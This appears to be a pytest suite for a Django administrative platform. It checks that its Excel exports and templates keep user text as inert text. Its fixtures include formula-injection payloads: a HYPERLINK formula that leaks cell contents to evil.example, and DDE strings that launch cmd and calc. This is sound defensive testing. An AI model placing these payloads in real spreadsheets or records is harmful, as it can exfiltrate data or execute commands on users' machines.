"""Every .xlsx the platform writes keeps user text as text: no formula, no link, no guessed number.

A project named =HYPERLINK("http://evil.example/?leak="&B2,"点击查看") once came out of the 台账 as a live formula.
Each export and template is downloaded through its page and read back with openpyxl.
"""
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actiondesk.chains.choices import ChainKind, PlacementRole
from actiondesk.chains.models import Chain, ChainSegment, SegmentEnterprise
from actiondesk.chainwork.services import plan_item_add, plan_save, problem_record, route_step_add
from actiondesk.core.scoping import SYSTEM
from actiondesk.enterprises.models import Enterprise, EnterpriseYearFigures
from actiondesk.finance import services as finance
from actiondesk.investment.services import lead_create
from actiondesk.parks.models import Building, LandParcel, Park
from actiondesk.plans.models import Indicator, Milestone, Task
from actiondesk.projects.choices import FactorKind
from actiondesk.projects.models import ApprovalStep, FactorNeed, Project, ProjectApproval
from actiondesk.supervision import services
from actiondesk.supervision.periods import periods_ensure
from actiondesk.transformation.models import TransformationProject

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
PLUS, MINUS, AT = "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"
ARRAY, URL, DIGITS = "{=1+1}", "http://evil.example/", "0012345"


def read_back(response) -> set[str]:
    """All text cells of a downloaded workbook; fails on any formula or hyperlink cell."""
    assert response.status_code == 200, response.status_code
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    return {c.value for c in cells if c.data_type == "s"}


@pytest.fixture
def evil_enterprise(zone):
    enterprise = Enterprise.objects.create(zone=zone, credit_code="91210400MA0000001X", name=LEAK,
                                           former_names=PLUS, park=Park.objects.create(zone=zone, name=MINUS), address=AT, contact_name=URL,
                                           contact_phone=DIGITS, registered_on=datetime.date(2020, 1, 2))
    EnterpriseYearFigures.objects.create(enterprise=enterprise, year=2025, revenue=Decimal("10"))
    return enterprise


def test_the_project_ledger_and_both_factor_ledgers_write_names_as_text(login, alice, departments, evil_enterprise):
    project = Project.objects.create(zone=alice.membership.zone, lead_department=departments["产业创新局"],
                                     code="=1+2", name=LEAK, investor_name=PLUS, park=evil_enterprise.park, location=AT,
                                     description=ARRAY, total_investment=Decimal("100"))
    FactorNeed.objects.create(project=project, kind=FactorKind.LAND, quantity=1, unit="-2+3", description=LEAK,
                              department=departments["产业创新局"], planned_on=datetime.date(2026, 1, 1),
                              progress_note=AT)
    client = login(alice)
    ledger = read_back(client.get(reverse("projects:project_list"), {"export": "xlsx"}))
    assert {"=1+2", LEAK, PLUS, MINUS, AT, ARRAY} <= ledger
    factors = read_back(client.get(reverse("projects:factor_list"), {"export": "xlsx"}))
    assert {"=1+2", LEAK, "-2+3"} <= factors
    progress = read_back(client.get(reverse("projects:factor_progress"), {"export": "xlsx"}))
    assert {"=1+2", LEAK, "-2+3", AT} <= progress


def test_the_approvals_ledger_writes_names_numbers_and_notes_as_text(login, alice, departments):
    zone = alice.membership.zone
    project = Project.objects.create(zone=zone, lead_department=departments["产业创新局"], code="=1+2", name=LEAK,
                                     total_investment=Decimal("100"))
    step = ApprovalStep.objects.create(zone=zone, name=PLUS, department=departments["规划建设局"])
    ProjectApproval.objects.create(project=project, step=step, granted_on=datetime.date(2026, 3, 1),
                                   document_number=AT, note=MINUS)
    texts = read_back(login(alice).get(reverse("projects:approval_list"), {"export": "xlsx"}))
    assert {"=1+2", LEAK, PLUS, AT, MINUS} <= texts


def test_the_enterprise_export_writes_names_as_text(login, admin, evil_enterprise):
    texts = read_back(login(admin).get(reverse("enterprises:export"), {"year": 2025}))
    assert {LEAK, PLUS, MINUS, AT, URL, DIGITS} <= texts


def test_the_park_registry_writes_park_building_and_parcel_texts_as_text(login, admin, evil_enterprise):
    park = evil_enterprise.park
    Park.objects.filter(pk=park.pk).update(operator=LEAK)
    Building.objects.create(park=park, name=PLUS, floor_area_m2=Decimal(10))
    LandParcel.objects.create(park=park, code=AT, area_mu=Decimal(1), land_use=URL)
    texts = read_back(login(admin).get(reverse("parks:park_list"), {"export": "xlsx"}))
    assert {MINUS, LEAK, PLUS, AT, URL} <= texts


def test_the_investment_leads_export_writes_company_names_and_notes_as_text(login, admin, departments, zone):
    chain = Chain.objects.create(zone=zone, name=PLUS, department=departments["产业创新局"])
    lead_create(zone=zone, acting_user=SYSTEM, company_name=LEAK, company_location=AT, chain=chain,  # set-up
                note=MINUS)
    texts = read_back(login(admin).get(reverse("investment:lead_list"), {"export": "xlsx"}))
    assert {LEAK, AT, PLUS, MINUS} <= texts


def test_the_finance_ledger_writes_fund_event_bank_and_rung_text_as_text(login, admin, departments, zone,
                                                                        evil_enterprise):
    # set-up, as the platform: every kind of 金融+ record with user text
    fund = finance.fund_create(zone=zone, acting_user=SYSTEM, name=LEAK, manager=PLUS, size=Decimal(100))
    finance.fund_invest(fund=fund, enterprise=evil_enterprise, amount=Decimal(1),
                        invested_on=datetime.date(2026, 5, 1), acting_user=SYSTEM)
    event = finance.event_create(zone=zone, acting_user=SYSTEM, name=MINUS, banks=AT, held_on=datetime.date(2026, 5, 1))
    pool = finance.pool_create(zone=zone, acting_user=SYSTEM, name=ARRAY, size=Decimal(100))
    loan = finance.loan_record(zone=zone, enterprise=evil_enterprise, acting_user=SYSTEM, bank=URL, amount=Decimal(10),
                               granted_on=datetime.date(2026, 5, 1), event=event, pool=pool)
    finance.compensation_pay(loan=loan, loss=Decimal(2), paid_on=datetime.date(2026, 5, 1), acting_user=SYSTEM)
    finance.listing_step_record(enterprise=evil_enterprise, stage="tutoring", note=DIGITS, acting_user=SYSTEM)
    texts = read_back(login(admin).get(reverse("finance:dashboard"), {"export": "xlsx", "year": 2026}))
    assert {LEAK, PLUS, MINUS, AT, ARRAY, URL, DIGITS} <= texts


def test_the_chain_problems_ledger_and_the_chain_plan_write_user_text_as_text(login, admin, departments, zone):
    chain = Chain.objects.create(zone=zone, name=PLUS, department=departments["产业创新局"])
    problem_record(chain=chain, title=LEAK, detail=AT, raised_by_name=MINUS, raised_on=datetime.date(2026, 3, 1),
                   owner_department=departments["产业创新局"], acting_user=SYSTEM)  # set-up
    chain_plan = plan_save(chain=chain, year=2026, policy_note=ARRAY, acting_user=SYSTEM)  # set-up
    plan_item_add(plan=chain_plan, goal=LEAK, measure=URL, owner_department=departments["产业创新局"],
                  acting_user=SYSTEM)  # set-up
    route_step_add(plan=chain_plan, key_technologies=DIGITS, acting_user=SYSTEM)  # set-up
    texts = read_back(login(admin).get(reverse("chainwork:problem_list"), {"export": "xlsx"}))
    assert {LEAK, AT, PLUS, MINUS} <= texts
    texts = read_back(login(admin).get(reverse("chainwork:plan_export", args=[chain.pk]), {"year": 2026}))
    assert {LEAK, URL, ARRAY, DIGITS, PLUS} <= texts


def test_the_chain_output_template_writes_enterprise_names_as_text(login, alice, departments, evil_enterprise):
    chain = Chain.objects.create(zone=evil_enterprise.zone, name="特种机器人", kind=ChainKind.STRATEGIC,
                                 industry="equipment", department=departments["产业创新局"])
    segment = ChainSegment.objects.create(chain=chain, position="midstream", name="机器人本体")
    SegmentEnterprise.objects.create(segment=segment, enterprise=evil_enterprise, role=PlacementRole.LEADER)
    texts = read_back(login(alice).get(reverse("chains:chain_outputs_template", args=[chain.pk]),
                                       {"month": "2026-01"}))
    assert LEAK in texts


def test_the_supervision_ledger_writes_indicator_names_and_report_notes_as_text(login, plan, alice, supervisor):
    periods = {p.month: p for p in periods_ensure(plan=plan, acting_user=SYSTEM)}
    indicator = Indicator.objects.get(plan=plan, name="高技术成果")
    Indicator.objects.filter(pk=indicator.pk).update(name=LEAK)
    task = Task.objects.get(plan=plan, number="1")  # the small plan: 产业创新局 leads task 1
    report = services.report_open(period=periods[6], acting_user=alice)
    services.report_save(report=report, acting_user=alice, values={indicator.pk: {"value": 4}},
                         notes={task.pk: {"progress": "攻关项目4项", "problems": MINUS, "next_steps": AT}})
    services.report_approve(report=services.report_submit(report=report, acting_user=alice), acting_user=supervisor)
    texts = read_back(login(supervisor).get(reverse("supervision:export", args=["2026-06", "xlsx"])))
    assert {LEAK, MINUS, AT} <= texts


def test_the_task_breakdown_writes_milestone_text_as_text(login, plan, alice, departments):
    task = Task.objects.get(plan=plan, number="1")
    Milestone.objects.create(task=task, title=LEAK, due_date=datetime.date(2026, 6, 30),
                             department=departments["产业创新局"], evidence_note=PLUS, evidence_link=URL)
    texts = read_back(login(alice).get(reverse("plans:milestone_grid"), {"export": "xlsx"}))
    assert {LEAK, PLUS, URL} <= texts


def test_the_order_ledger_writes_subjects_and_replies_as_text(login, alice, supervisor, departments):
    from actiondesk.orders import services as orders

    order = orders.raise_order(acting_user=supervisor, zone=alice.membership.zone, subject=LEAK, instruction=PLUS,
                               departments=[departments["产业创新局"]], due_on=datetime.date(2026, 9, 30),
                               source_label=MINUS)
    orders.reply_order(acting_user=alice, order=order, text=AT)
    texts = read_back(login(supervisor).get(reverse("orders:order_list"), {"export": "xlsx"}))
    assert {LEAK, PLUS, MINUS, AT} <= texts


@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template",
                                 "transformation:import_template", "parks:import_template",
                                 "investment:import_template"])
def test_the_import_templates_hold_no_formula(login, admin, departments, url):
    texts = read_back(login(admin).get(reverse(url)))
    assert texts  # headers and notes, all as text


def test_an_outsider_gets_no_export_of_another_zone(login, mallory, evil_enterprise):
    texts = read_back(login(mallory).get(reverse("enterprises:export"), {"year": 2025}))
    assert LEAK not in texts


def test_the_innovation_exports_and_template_write_user_text_as_text(login, alice, departments):
    from actiondesk.innovation.models import Achievement, TechContract

    zone = alice.membership.zone
    Achievement.objects.create(zone=zone, code="=1+2", title=LEAK, institution=PLUS, field=MINUS)
    TechContract.objects.create(zone=zone, number=AT, name=LEAK, seller=PLUS, buyer=URL, contract_type="development",
                                amount=Decimal("5"), signed_on=datetime.date(2026, 3, 1))
    client = login(alice)
    assert {"=1+2", LEAK, PLUS, MINUS} <= read_back(client.get(reverse("innovation:achievement_export")))
    assert {AT, LEAK, PLUS, URL} <= read_back(client.get(reverse("innovation:contract_export")))
    assert "合同编号" in read_back(client.get(reverse("innovation:contract_template")))


def test_the_transformation_pool_export_writes_names_as_text(login, alice, evil_enterprise):
    Enterprise.objects.filter(pk=evil_enterprise.pk).update(scale_status="industry")
    TransformationProject.objects.create(enterprise=evil_enterprise, name=ARRAY)
    texts = read_back(login(alice).get(reverse("transformation:pool"), {"export": "xlsx"}))
    assert {LEAK, MINUS, ARRAY} <= texts


def test_the_demands_ledger_and_the_arrears_ledger_write_names_as_text(login, admin, alice, departments,
                                                                        evil_enterprise):
    from actiondesk.demands import services as demands
    from actiondesk.demands import services_registry

    category = services_registry.category_save(zone=evil_enterprise.zone, name="用地", accept_days=5, resolve_days=30,
                                               owner=alice, acting_user=SYSTEM)
    demands.demand_raise(enterprise=evil_enterprise, category=category, title=PLUS, description=AT,
                         channel="hotline", acting_user=SYSTEM)
    services_registry.arrear_create(enterprise=evil_enterprise, debtor=MINUS, department=departments["产业创新局"],
                                    amount=10, due_on=datetime.date(2026, 1, 1), plan=ARRAY, acting_user=SYSTEM)
    client = login(admin)
    texts = read_back(client.get(reverse("demands:demand_list"), {"export": "xlsx"}))
    assert {LEAK, PLUS} <= texts
    texts = read_back(client.get(reverse("demands:arrear_list"), {"export": "xlsx"}))
    assert {LEAK, MINUS, ARRAY} <= texts
